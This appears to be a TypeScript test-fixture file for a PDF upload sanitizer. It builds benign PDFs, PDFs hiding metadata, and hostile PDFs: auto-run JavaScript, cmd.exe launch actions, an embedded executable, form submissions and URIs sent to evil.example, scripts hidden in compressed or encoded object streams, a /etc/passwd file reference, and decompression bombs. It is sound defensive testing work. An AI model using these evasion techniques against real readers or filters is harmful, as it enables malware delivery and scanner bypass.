// PDFs made byte by byte: honest ones, and those that hide something.
import { deflateSync } from 'node:zlib'
import { cleanPdf } from '#server/uploads/pdf/clean-pdf.ts'

/** A marker: found in a stored file, it proves that metadata survived. */
export const CANARY = 'canari-7f3a91'

export const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))

type PdfOptions = {
  catalog?: string
  /** What the page refers to, from number 5 on. */
  objects?: readonly string[]
  /** What it does not: these come after. */
  loose?: readonly string[]
  trailer?: string
  head?: string
}

/** One page, with whatever else is asked for. Text is Latin-1, so that bytes can be written as characters. */
export function makePdf({
  catalog = '',
  objects = [],
  loose = [],
  trailer = '',
  head = '',
}: PdfOptions = {}): Uint8Array {
  const drawing = 'BT /F1 18 Tf 20 100 Td (Carte de membre) Tj ET'
  const properties = objects.map((_object, index) => `/O${index + 5} ${index + 5} 0 R`).join(' ')
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Properties << ${properties} >> >> >>`,
    `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
    ...objects,
    ...loose,
  ]
  let text = `%PDF-1.7\n${head}`
  const offsets = all.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const xref = text.length
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}`
  text += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`
  return bytesOf(text)
}

/** A file as it is kept: written anew. */
export const keptPdf = (pdf = makePdf()): Uint8Array => cleanPdf(pdf).bytes

/** Saved again by another program: what changed, and its own table, stand behind the first version. */
export function saveAgain(pdf: Uint8Array, object: string, trailer: string): Uint8Array {
  const first = textIn(pdf)
  const [, previous = ''] = /startxref\n(\d+)/.exec(first) ?? []
  const [, number = ''] = /^(\d+)/.exec(object) ?? []
  const xref = first.length + object.length + 1
  const row = String(first.length).padStart(10, '0')
  const table = `xref\n${number} 1\n${row} 00000 n \ntrailer\n<< /Size 20 ${trailer.includes('/Prev') ? '' : `/Prev ${previous}`} ${trailer} >>`
  return bytesOf(`${first}${object}\n${table}\nstartxref\n${xref}\n%%EOF\n`)
}

/** With its true length. */
export const streamOf = (dictionary: string, body: string, opening = 'stream\n') =>
  `<< ${dictionary} /Length ${body.length} >>\n${opening}${body}\nendstream`

const deflated = (content: string | Uint8Array, level = -1) =>
  deflateSync(typeof content === 'string' ? Buffer.from(content, 'latin1') : content, { level }).toString(
    'latin1',
  )

const flateStream = (dictionary: string, content: string | Uint8Array) =>
  streamOf(`${dictionary} /Filter /FlateDecode`, deflated(content))

/** Objects folded into a compressed stream, where a search of the file's text does not see them. */
export const objectStream = (content: string) => flateStream('/Type /ObjStm /N 1 /First 4', content)

const ACTION = `<< /S /JavaScript /JS (app.alert\\('${CANARY}'\\)) >>`
const LAUNCH = `<< /S /Launch /F (cmd.exe) >>`
const PACKED = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'
const FOLDED = `5 0 ${ACTION}`

/** Larger than it looks: what takes a reader that goes back over what it read hours. */
export function slowPdfs(size = 5_000_000): Record<string, Uint8Array> {
  const repeated = (text: string) => text.repeat(size / text.length)
  return {
    'a PDF of spaces before what it opens with': makePdf({ catalog: `/OpenAction${repeated(' ')}[` }),
    'a PDF of titles that do not end': makePdf({ objects: [repeated('/Title(')] }),
    'a PDF of packets that do not end': makePdf({ objects: [repeated('<?xpacket begin')] }),
    'a PDF of streams without objects': makePdf({ head: repeated('stream\nendstream\n') }),
  }
}

/** More than pages: each of them must be refused. */
export function hostilePdfs(): Record<string, Uint8Array> {
  return {
    'a PDF that runs a script when opened': makePdf({ catalog: '/OpenAction 5 0 R', objects: [ACTION] }),
    'a PDF whose script is spelled with escapes': makePdf({
      catalog: '/Open#41ction 5 0 R',
      objects: [ACTION.replace('/JavaScript', '/J#61v#61Script').replace('/JS', '/J#53')],
    }),
    'a PDF that starts a program': makePdf({ catalog: `/OpenAction ${LAUNCH}` }),
    'a PDF whose page starts a program': makePdf({ catalog: `/AA << /WC ${LAUNCH} >>` }),
    'a PDF that carries a file': makePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>',
      objects: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
    }),
    'a PDF that plays media': makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
    'a PDF that sends a form': makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
    'a PDF with a dynamic form': makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] }),
    'a PDF under a password': makePdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard >>'] }),
    'a PDF that hides its script in a compressed stream': makePdf({
      objects: [objectStream(FOLDED)],
    }),
    'a PDF that hides its script in another coat': makePdf({
      objects: [
        streamOf('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', Buffer.from(FOLDED).toString('hex')),
      ],
    }),
    'a PDF that unfolds to a gigabyte': makePdf({
      objects: [flateStream('/Type /ObjStm /First 4', Buffer.alloc(200_000_000))],
    }),
    'a PDF whose script is packed behind a carriage return': makePdf({
      objects: [streamOf(PACKED, deflated(FOLDED), 'stream\r')],
    }),
    'a PDF whose script is packed behind a space': makePdf({
      objects: [streamOf(PACKED, deflated(FOLDED), 'stream \n')],
    }),
    'a PDF whose words are packed behind a carriage return': makePdf({
      objects: [streamOf(PACKED, deflated('5 0 << >>'), 'stream\r')],
    }),
    'a PDF whose words are packed behind a space': makePdf({
      objects: [streamOf(PACKED, deflated('5 0 << >>'), 'stream \n')],
    }),
    'a PDF that hides in another coat, and counts none': makePdf({
      objects: [streamOf('/Type /ObjStm /N 0 /First 4 /Filter /ASCIIHexDecode', '00')],
    }),
    'a PDF whose script stands behind the word that ends streams': makePdf({
      objects: [streamOf(PACKED, deflated(`5 0 << /A (\nendstream\nendobj) /X ${ACTION} >>`, 0))],
    }),
    'a PDF whose stream ends where its length does not': makePdf({
      objects: [`<< /Length 9 >>\nstream\nnot nine of them\nendstream`],
    }),
    'a PDF whose stream ends elsewhere than the length it names': makePdf({
      objects: ['<< /Length 6 0 R >>\nstream\nnot nine of them\nendstream', '9'],
    }),
    'a PDF whose packed objects are cut': makePdf({
      objects: [streamOf(PACKED, deflated(`5 0 << /A (${CANARY.repeat(9)}) >>`).slice(0, -8))],
    }),
    'a PDF whose packed objects are cut by their sum': makePdf({
      objects: [streamOf(PACKED, deflated('5 0 << >>').slice(0, -4))],
    }),
    'a PDF whose packed objects say twice how they are packed': makePdf({
      objects: [streamOf(`/Filter /ASCIIHexDecode ${PACKED}`, deflated('5 0 << >>'))],
    }),
    'a PDF whose packed objects overlap': makePdf({
      objects: [flateStream('/Type /ObjStm /N 2 /First 8', '5 0 6 0 << >>')],
    }),
    'a PDF whose stream is another file': makePdf({ objects: [streamOf('/F (/etc/passwd)', 'x')] }),
    'a PDF that pins a file to its page': makePdf({
      objects: ['<< /Subtype /FileAttachment /FS << /F (x.exe) >> >>'],
    }),
    'a PDF whose script runs with a comment before its name': makePdf({
      objects: [ACTION.replace('/JavaScript', '%x\n/J#61v#61Script')],
    }),
    'a PDF that opens an address when it is opened': makePdf({
      catalog: '/OpenAction 5 0 R',
      objects: ['<< /S /URI /URI (https://evil.example/S /GoTo ) >>'],
    }),
    'a PDF of a thousand lists in each other': makePdf({ objects: ['['.repeat(1000) + ']'.repeat(1000)] }),
    'a signed PDF whose table leads into a picture': signedPdf({ hides: true }),
    'a signed PDF whose packed table leads into a picture': withPackedTable(signedPdf(), '9 0 obj'),
    'a signed PDF whose table before leads into a picture': saveAgain(
      signedPdf(),
      '10 0 obj\n<< >>\nendobj',
      '/Root 1 0 R /Prev 700',
    ),
    'a signed PDF whose packed objects had another length before': withFarPacking(signedPdf(), '90'),
    'a signed PDF whose packed objects had a length of another kind before': withFarPacking(
      signedPdf(),
      '+90.',
    ),
    'a signed PDF that ends long before its end': bytesOf(`${textIn(signedPdf())}${' '.repeat(20)}`),
    'a PDF with two thousand blanks behind its end': bytesOf(`${textIn(makePdf())}${' '.repeat(2000)}`),
    'a PDF whose field is also a directory of fonts': makePdf({
      catalog: '/AcroForm << /Fields [5 0 R] /DR << /Font 5 0 R >> >>',
      loose: [UNASKED],
    }),
    'a PDF whose field is also a directory of glyphs, packed': makePdf({
      catalog: '/AcroForm << /Fields [9 0 R] >> /X 6 0 R',
      loose: [objectStream(`9 0 ${UNASKED}`), '<< /CharProcs 9 0 R >>'],
    }),
    'a PDF whose catalogue is also a directory of places': makePdf({ catalog: `/Dests 1 0 R /AA << >>` }),
    'a PDF with a photo that is not yet one when it is unfolded': makePdf({
      objects: [deflatedPhoto('<< /Predictor 12 /Columns 9 >> null')],
    }),
    'a PDF with a photo whose settings are elsewhere': makePdf({
      objects: [deflatedPhoto('6 0 R null'), '<< /Predictor 7 0 R >>', '12'],
    }),
    ...slowPdfs(),
  }
}

/** What opens an address when somebody goes near. */
const UNASKED = '<< /T (x) /AA << /E << /S /URI /URI (https://evil.example) >> >> >>'

export const textIn = (pdf: Uint8Array) => Buffer.from(pdf).toString('latin1')

/** A photo that was deflated once more, and how both are to be unfolded. */
export const deflatedPhoto = (settings: string, photo = '\xff\xd8\xff\xd9') =>
  streamOf(`/Subtype /Image /Filter [/FlateDecode /DCTDecode] /DecodeParms [${settings}]`, deflated(photo))

/** With packed objects that say their length elsewhere; there it was another one before. */
export function withFarPacking(pdf: Uint8Array, before?: string): Uint8Array {
  const packed = '12 0 << >>'
  const container = `10 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Length 11 0 R >>\nstream\n${packed}\nendstream\nendobj`
  const lengths = [...(before === undefined ? [] : [before]), String(packed.length)]
  const objects = [container, ...lengths.map((length) => `11 0 obj\n${length}\nendobj`)]
  return objects.reduce((file, object) => saveAgain(file, object, '/Root 1 0 R'), pdf)
}

/** Changed and saved again twice: a stream and the length that it says elsewhere. */
export function withChangedStream(pdf: Uint8Array, content: string): Uint8Array {
  const versions = ['(avant) Tj', content].flatMap((text) => [
    `10 0 obj\n<< /Length 11 0 R >>\nstream\n${text}\nendstream\nendobj`,
    `11 0 obj\n${text.length}\nendobj`,
  ])
  return versions.reduce((file, object) => saveAgain(file, object, '/Root 1 0 R'), pdf)
}

/** With a signature whose range leaves out itself alone, as programs that sign write it; what it says is not true. */
export function signedPdf({ hides = false, leadsToHeader = false } = {}): Uint8Array {
  const sealed = `<30${'0'.repeat(200)}>`
  const space = ' '.repeat(40)
  const hidden = `9 0 obj\n${streamOf(PACKED, deflated(FOLDED))}\nendobj\n`
  const pdf = Buffer.from(
    makePdf({
      catalog: '/AcroForm << /SigFlags 3 /Fields [6 0 R] >>',
      trailer: '/Info 8 0 R',
      objects: [
        streamOf('/Subtype /Image', hidden),
        '<< /FT /Sig /T (Signature) /V 7 0 R >>',
        `<< /Type /Sig /Filter /Adobe.PPKLite /Contents ${sealed} /ByteRange [0${space}] >>`,
        `<< /Author (${CANARY}) >>`,
      ],
    }),
  ).toString('latin1')
  const start = pdf.indexOf(sealed)
  const end = start + sealed.length
  const range = `0 ${start} ${end} ${pdf.length - end}`
  const signed = pdf.replace(`[0${space}]`, `[${range.padEnd(space.length + 1)}]`)
  const places = /(?<=\n)\d{10}(?= 00000 n \ntrailer)/
  const leading = String(hides ? pdf.indexOf(hidden) : 0).padStart(10, '0')
  return bytesOf(hides || leadsToHeader ? signed.replace(places, leading) : signed)
}

/** Saved again with a table that is a stream (ISO 32000-2, 7.5.8), each row written as how it differs from the one above. */
export function withPackedTable(pdf: Uint8Array, leadsTo?: string): Uint8Array {
  const first = textIn(pdf)
  const [, previous = ''] = /startxref\n(\d+)/.exec(first) ?? []
  const positions = [first.indexOf('3 0 obj'), leadsTo ? first.indexOf(leadsTo) : first.length]
  const rows = positions.map((position) => [1, position >> 16, (position >> 8) & 255, position & 255, 0])
  const packed = rows.flatMap((row, index) => [
    2,
    ...row.map((byte, column) => (byte - (rows[index - 1]?.[column] ?? 0)) & 255),
  ])
  const table = flateStream(
    `/Type /XRef /Size 20 /Root 1 0 R /Prev ${previous} /W [1 3 1] /Index [3 1 19 1] /DecodeParms << /Predictor 12 /Columns 5 >>`,
    new Uint8Array(packed),
  )
  return bytesOf(`${first}19 0 obj\n${table}\nendobj\nstartxref\n${first.length}\n%%EOF\n`)
}

/** Honest documents with something hidden in them: accepted, and stored without it. */
export function taintedPdfs(photo: Uint8Array): Record<string, Uint8Array> {
  const exif = Buffer.from(photo).toString('latin1')
  const info = (...loose: string[]) => makePdf({ trailer: '/Info 5 0 R', loose })
  const xmp = streamOf('/Type /Metadata /Subtype /XML', `<?xpacket begin=""?>${CANARY}<?xpacket end="w"?>`)
  const range = '/ByteRange [0 10 20 30]'
  return {
    'a PDF that names its author': info(
      `<< /Author (${CANARY} \\(moi\\)) /Producer <${Buffer.from(CANARY).toString('hex')}> /CreationDate (D:2026) >>`,
    ),
    'a PDF that names its author, changed on its page': saveAgain(
      info(`<< /Author (${CANARY}) >>`),
      '4 0 obj\n(encore)\nendobj',
      '/Root 1 0 R /Info 5 0 R',
    ),
    'a PDF that names its author elsewhere': info('<< /Author 6 0 R >>', `(${CANARY})`),
    'a PDF that spells its author with escapes': info(`<< /Auth#6fr (${CANARY}) >>`),
    'a PDF with a comment before its author': info(`<< /Author %moi\n(${CANARY}) >> % ${CANARY}`),
    'a PDF that names a company': info(`<< /Company (${CANARY}) >>`),
    'a PDF whose author says that it is signed': info(`<< /Author (${CANARY}) ${range} >>`),
    'a PDF whose signature signs nothing': makePdf({
      trailer: '/Info 6 0 R',
      objects: [`<< /Type /Sig ${range} /Contents <3000> >>`],
      loose: [`<< /Author (${CANARY}) >>`],
    }),
    'a PDF that was saved again under another name': saveAgain(
      info(`<< /Author (${CANARY}) >>`),
      `5 0 obj\n<< /Author (${CANARY} encore) >>\nendobj`,
      '/Root 1 0 R /Info 5 0 R',
    ),
    'a PDF with what was on its page before': saveAgain(
      makePdf({ objects: [streamOf('', CANARY)] }),
      '5 0 obj\n<< >>\nendobj',
      '/Root 1 0 R',
    ),
    'a PDF with the data of a program': makePdf({
      catalog: `/PieceInfo << /Draw << /LastModified (D:2026) /Private (${CANARY}) >> >>`,
    }),
    'a PDF with XMP': makePdf({ catalog: '/Metadata 5 0 R', loose: [xmp] }),
    'a PDF with XMP in the colours of a pattern': makePdf({
      objects: ['<< /PatternType 2 /Shading << /ShadingType 2 /Metadata 6 0 R >> >>'],
      loose: [xmp],
    }),
    'a PDF with folded XMP and author': makePdf({
      catalog: '/Metadata 5 0 R',
      trailer: '/Info 7 0 R',
      loose: [
        flateStream('/Type /Metadata /Subtype /XML', `<x>${CANARY.repeat(40)}</x>`),
        objectStream(`7 0 << /Author (${CANARY}) >>`),
      ],
    }),
    'a PDF with a located photo': makePdf({
      objects: [streamOf('/Type /XObject /Subtype /Image /Filter /DCTDecode', exif)],
    }),
    'a PDF with a located photo that says that it is signed': makePdf({
      objects: [streamOf(`/Subtype /Image /Filter [/DCTDecode] ${range}`, exif)],
    }),
    'a PDF with a located photo, deflated': makePdf({
      objects: [flateStream('/Subtype /Image', exif).replace('/FlateDecode', '[/FlateDecode /DCTDecode]')],
    }),
  }
}
